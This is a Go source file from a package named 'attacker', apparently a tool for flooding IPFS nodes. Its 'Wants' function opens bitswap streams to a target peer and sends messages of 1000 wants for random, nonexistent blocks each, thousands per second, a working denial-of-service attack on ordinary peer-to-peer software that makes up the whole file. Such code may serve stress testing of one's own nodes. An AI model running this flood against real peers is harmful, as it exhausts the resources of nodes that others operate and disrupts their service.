package attacker

import (
	"context"
	"fmt"
	"time"

	"github.com/ipfs/boxo/bitswap/message"
	pb "github.com/ipfs/boxo/bitswap/message/pb"
	"github.com/ipfs/boxo/bitswap/network/bsnet"
	"github.com/ipfs/go-cid"
	"github.com/libp2p/go-libp2p/core/network"
)

const wantsAtOnce = 1000 // in one message

// Wants asks by bitswap for blocks that nobody has, always further ones, so many thousands a
// second at most.
func Wants(t Target, thousands int) Attack {
	return func(ctx context.Context, p *Peer, tally *Tally) {
		var s network.Stream
		again(ctx, 1, tally, func(ctx context.Context) (err error) {
			if p.host == nil {
				return ErrStranger
			}
			if s == nil || s.Conn().IsClosed() {
				if s, err = p.host.NewStream(ctx, t.Peer.ID, bsnet.ProtocolBitswap); err != nil {
					return fmt.Errorf("bitswap: %w", err)
				}
			}
			m := message.New(false)
			for range wantsAtOnce {
				hash, err := randomHash()
				if err != nil {
					return err
				}
				m.AddEntry(cid.NewCidV1(cid.Raw, hash), 1, pb.Message_Wantlist_Block, true)
			}
			_ = s.SetWriteDeadline(time.Now().Add(patience))
			if err = m.ToNetV1(s); err != nil {
				_ = s.Reset()
				s = nil
			}
			rest(ctx, time.Second/time.Duration(thousands))
			return err
		})
	}
}
